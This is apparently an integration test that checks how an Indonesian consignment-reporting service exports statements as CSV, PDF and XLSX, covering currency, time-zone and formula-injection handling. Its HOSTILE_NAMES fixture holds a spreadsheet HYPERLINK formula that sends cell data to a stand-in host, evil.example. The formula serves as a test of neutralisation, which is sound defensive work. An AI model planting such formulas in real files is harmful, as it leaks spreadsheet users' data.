import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { periodOf } from '@titipan/kernel';
import { type ServiceName } from '@titipan/platform';
import ExcelJS from 'exceljs';
import { cleanUp, scratchDir, stopEach } from '../../../test/support/clean-up';
import { eventually } from '../../../test/support/kafka-probe';
import { startServices } from '../../../test/support/stack';
import { TestEnvironment } from '../../../test/support/test-environment';
import { bearer } from '../../../test/support/tokens';
import { ApiClient, caller } from '../../../tools/demo/api-client';
import { seedCatalog } from '../../../tools/seed/seed-catalog';
import { type RunningService } from '../../../tools/service-process';

const run = promisify(execFile);

/** Product names a spreadsheet would run as formulas if written raw (OWASP, CSV injection). */
const HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/steal?d="&A1,"klik")', '=1+1', '@SUM(A1:A9)'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'Mei', 'Jun', 'Jul', 'Agu', 'Sep', 'Okt', 'Nov', 'Des'];

/** Fields of one CSV line (RFC 4180 quoting). */
function csvFields(line: string, delimiter: string): string[] {
  const fields: string[] = [];
  const pattern = new RegExp(`("(?:[^"]|"")*"|[^${delimiter}]*)(${delimiter}|$)`, 'g');
  for (const match of line.matchAll(pattern)) {
    const raw = match[1];
    fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '') break;
  }
  return fields;
}

/**
 * A month at a gallery in Makassar (WITA) selling crafts whose names are formulas, settled into a statement;
 * then its files: CSV with every name neutralised and every figure a number, the semicolon variant for Excel
 * set to Indonesian, and PDF and XLSX with times in WITA and rupiah written the Indonesian way.
 */
describe('reporting: statement and rollup files', () => {
  let env: TestEnvironment;
  const services = {} as Record<ServiceName, RunningService>;
  const scratch = scratchDir('exports');
  const [admin, ministry, upt, curator, gallery] = [
    caller('admin'),
    caller('ministry'),
    caller('upt', 'LP-TGR-1'),
    caller('curator', 'KW-BANTEN'),
    caller('venue', 'GAL-MKS'),
  ];
  const ministryInReporting = bearer('reporting', 'ministry');
  let statement: any;
  let period: string;

  beforeAll(async () => {
    env = await TestEnvironment.create();
    await startServices(env, services);
    const catalog = new ApiClient('catalog', services.catalog.url);
    const consignment = new ApiClient('consignment', services.consignment.url);
    const reporting = new ApiClient('reporting', services.reporting.url);
    await seedCatalog(services.catalog.url);

    const products: { id: string; price: number }[] = [];
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      const draft = await catalog.expect([201], 'POST', '/products', upt, {
        sku: `CRAFT-FORMULA-${i + 1}`,
        name,
        category: 'craft',
        unit: 'piece',
        price: 15_000,
      });
      await catalog.expect([200], 'POST', `/products/${draft.id}/submit`, upt);
      await catalog.expect([201], 'POST', `/products/${draft.id}/reviews`, curator, {
        decision: 'APPROVE',
        scores: { quality: 4, packaging: 4, compliance: 4, marketPotential: 4 },
        // a paper decision of two months ago, so last month's dispatch is after the approval
        decidedOn: new Date(Date.now() - 60 * 24 * 3600_000).toISOString().slice(0, 10),
      });
      products.push({ id: draft.id, price: 15_000 });
    }
    await reporting.expect([201], 'POST', '/split-policies', ministry, {
      effectiveFrom: '2026-01-01',
      shares: [
        { name: 'PNBP', basisPoints: 1_500, legalReference: 'Kepmen M.01-PP.02.01/1990' },
        { name: 'PREMI', basisPoints: 8_500, legalReference: 'PP 32/1999 pasal 29' },
      ],
    });
    await consignment.expect([201], 'POST', '/venues', admin, {
      code: 'GAL-MKS',
      name: 'Galeri Karya Warga Binaan Makassar',
      partnerAgency: 'Kanwil Ditjenpas Sulawesi Selatan',
      type: 'gallery',
      kanwilCode: 'KW-BANTEN',
      timeZone: 'Asia/Makassar',
      collectiveOutlet: true,
    });
    const agreement = await consignment.expect([201], 'POST', '/agreements', admin, {
      uptCode: 'LP-TGR-1',
      venueCode: 'GAL-MKS',
      commissionBp: 1_000,
      validFrom: '2026-01-01',
      prices: products.map((p) => ({ productId: p.id, price: p.price })),
    });
    await consignment.expect([200], 'POST', `/agreements/${agreement.id}/activate`, admin);

    // last month in WITA: receive 10 of each, sell some, then a count that finds one more than the books
    const day = 24 * 3600_000;
    const now = new Date();
    const start = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1) - 10 * day);
    period = periodOf(start, 'Asia/Makassar');
    const at = (hours: number) => new Date(start.getTime() + hours * 3600_000).toISOString();
    const dispatch = await eventually(
      async () => {
        // consignment learns of the approvals through its product replica; until then the dispatch is refused
        const r = await consignment.call('POST', '/dispatches', upt, {
          agreementId: agreement.id,
          dispatchedAt: at(0),
          lines: products.map((p, i) => ({ productId: p.id, lotCode: `F-${i + 1}`, quantity: 10 })),
        });
        return r.status === 201 ? r.body : undefined;
      },
      30_000,
      'dispatch accepted',
    );
    await consignment.expect([201], 'POST', `/dispatches/${dispatch.id}/receipt`, gallery, {
      receivedAt: at(1),
      lines: products.map((_, i) => ({ lineNo: i + 1, accepted: 10, damaged: 0, short: 0 })),
    });
    const sold = await consignment.expect([201], 'POST', '/sales/batches', gallery, {
      lines: products.map((p, i) => ({ receiptNo: 'G-1', lineNo: i + 1, productId: p.id, quantity: i + 1, soldAt: at(2) })),
    });
    expect(sold.accepted).toBe(3);
    await consignment.expect([201], 'POST', '/stock-counts', gallery, {
      agreementId: agreement.id,
      reason: 'opname',
      countedAt: at(3),
      lines: [{ productId: products[0].id, lotCode: 'F-1', counted: 10 }], // 9 on the books: one more found
    });
    await consignment.expect([200], 'POST', `/agreements/${agreement.id}/periods/${period}/close`, gallery);
    statement = await eventually(
      async () => {
        const { items } = await reporting.expect([200], 'GET', `/statements?agreement=${agreement.id}`, ministry);
        return items[0]?.status === 'ISSUED' ? items[0] : undefined;
      },
      30_000,
      'statement issued',
    );
  });
  afterAll(() =>
    cleanUp(
      stopEach(services),
      () => env?.dispose(),
      () => scratch.remove(),
    ),
  );

  const download = async (path: string) => {
    const response = await fetch(`${services.reporting.url}${path}`, { headers: { authorization: ministryInReporting } });
    expect(response.status).toBe(200);
    return { type: response.headers.get('content-type'), body: Buffer.from(await response.arrayBuffer()) };
  };

  it('writes the statement CSV with a BOM, every formula-like name neutralised and quoted, and figures as plain numbers', async () => {
    const csv = await download(`/statements/${statement.id}/export?format=csv`);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    expect([...csv.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.body.toString('utf8').slice(1);
    for (const name of HOSTILE_NAMES) expect(text).toContain(`"'${name.replace(/"/g, '""')}"`);
    const [header, ...lines] = text.trim().split('\n');
    const columns = csvFields(header, ',');
    const rows = lines.map((l) => Object.fromEntries(csvFields(l, ',').map((v, i) => [columns[i], v])));
    expect(rows.map((r) => r.product).sort()).toEqual(['', ...HOSTILE_NAMES.map((n) => `'${n}`)].sort());
    // the surplus: adjusted -1 unit and -15,000 rupiah, written as negative numbers, not neutralised as text
    const found = rows.find((r) => r.sku === 'CRAFT-FORMULA-1')!;
    expect([found.adjusted, found.adjustedValue]).toEqual(['-1', '-15000']);
    expect(rows.find((r) => r.sku === 'TOTAL')).toMatchObject({ netSales: '90000', adjustedValue: '-15000' });
    for (const row of rows) for (const key of ['opening', 'sold', 'netSales', 'closing']) expect(row[key]).toMatch(/^-?\d+$/);
  });

  it('writes delimiter=semicolon for Excel set to Indonesian, the same cells with ";" between them', async () => {
    const comma = (await download(`/statements/${statement.id}/export?format=csv`)).body.toString('utf8');
    const semicolon = (await download(`/statements/${statement.id}/export?format=csv&delimiter=semicolon`)).body.toString('utf8');
    const cells = (text: string, delimiter: string) =>
      text
        .trim()
        .split('\n')
        .map((l) => csvFields(l, delimiter));
    expect(cells(semicolon, ';')).toEqual(cells(comma, ','));
    expect(semicolon.split('\n')[0]).toContain('agreement;period;upt;venue');

    const rollup = await download(`/reports/rollup?period=${period}&by=venue&format=csv&delimiter=semicolon`);
    expect([...rollup.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, row] = rollup.body.toString('utf8').slice(1).trim().split('\n');
    expect(header).toBe('key;soldQuantity;grossSales;netSales;received;sellThrough;proceeds;pnbp;premi');
    // 6 of 30 received were sold: the decimal written with a comma
    expect(row).toMatch(/^GAL-MKS;6;90000;90000;30;0,2;81000;12150;68850$/);
    expect(
      (
        await fetch(`${services.reporting.url}/reports/rollup?period=${period}&by=venue&format=csv&delimiter=tab`, {
          headers: { authorization: ministryInReporting },
        })
      ).status,
    ).toBe(400);
  });

  it("prints the PDF's times in the venue's zone (WITA) and rupiah as Rp 1.234.567", async () => {
    const pdf = await download(`/statements/${statement.id}/export?format=pdf`);
    const file = join(scratch.path, 'statement.pdf');
    writeFileSync(file, pdf.body);
    const { stdout: text } = await run('pdftotext', ['-layout', file, '-']);
    // computed here without the service's formatter: WITA is UTC+8 and has no daylight saving
    const wita = new Date(new Date(statement.issuedAt).getTime() + 8 * 3600_000);
    const two = (n: number) => String(n).padStart(2, '0');
    const issued = `${wita.getUTCDate()} ${MONTHS[wita.getUTCMonth()]} ${wita.getUTCFullYear()}, ${two(wita.getUTCHours())}.${two(wita.getUTCMinutes())} WITA`;
    expect(text).toContain(`Issued: ${issued}`);
    expect(text).toContain(`Period: ${period} (WITA)`);
    expect(text).not.toContain('UTC');
    // net 90,000, commission 10% = 9,000, proceeds 81,000; PNBP 15% = 12,150, premi 68,850
    expect(text).toContain('Proceeds due to the UPT: Rp 81.000');
    expect(text).toContain('PNBP (15%): Rp 12.150');
    expect(text).toContain('PREMI (85%): Rp 68.850');
    // units and rupiah as two tables, each row whole on the page
    expect(text).toMatch(/TOTAL\s+0\s+30\s+0\s+0\s+6\s+0\s+0\s+-1\s+25\s/);
    expect(text).toMatch(/TOTAL\s+90\.000\s+0\s+90\.000\s+0\s+90\.000\s+0\s+-15\.000\s+0\s/);
  });

  it('gives the XLSX the issue time as a WITA wall-clock date cell', async () => {
    const xlsx = await download(`/statements/${statement.id}/export?format=xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body.buffer); // the whole ArrayBuffer the download was read into
    const sheet = book.worksheets[0];
    let issued: ExcelJS.Cell | undefined;
    sheet.eachRow((row) => {
      if (row.getCell(1).value === 'Issued') issued = row.getCell(2);
    });
    const wita = new Date(new Date(statement.issuedAt).getTime() + 8 * 3600_000);
    expect((issued!.value as Date).toISOString().slice(0, 16)).toBe(wita.toISOString().slice(0, 16));
    expect(issued!.numFmt).toBe('[$-421]d mmm yyyy, hh.mm "WITA"');
  });
});
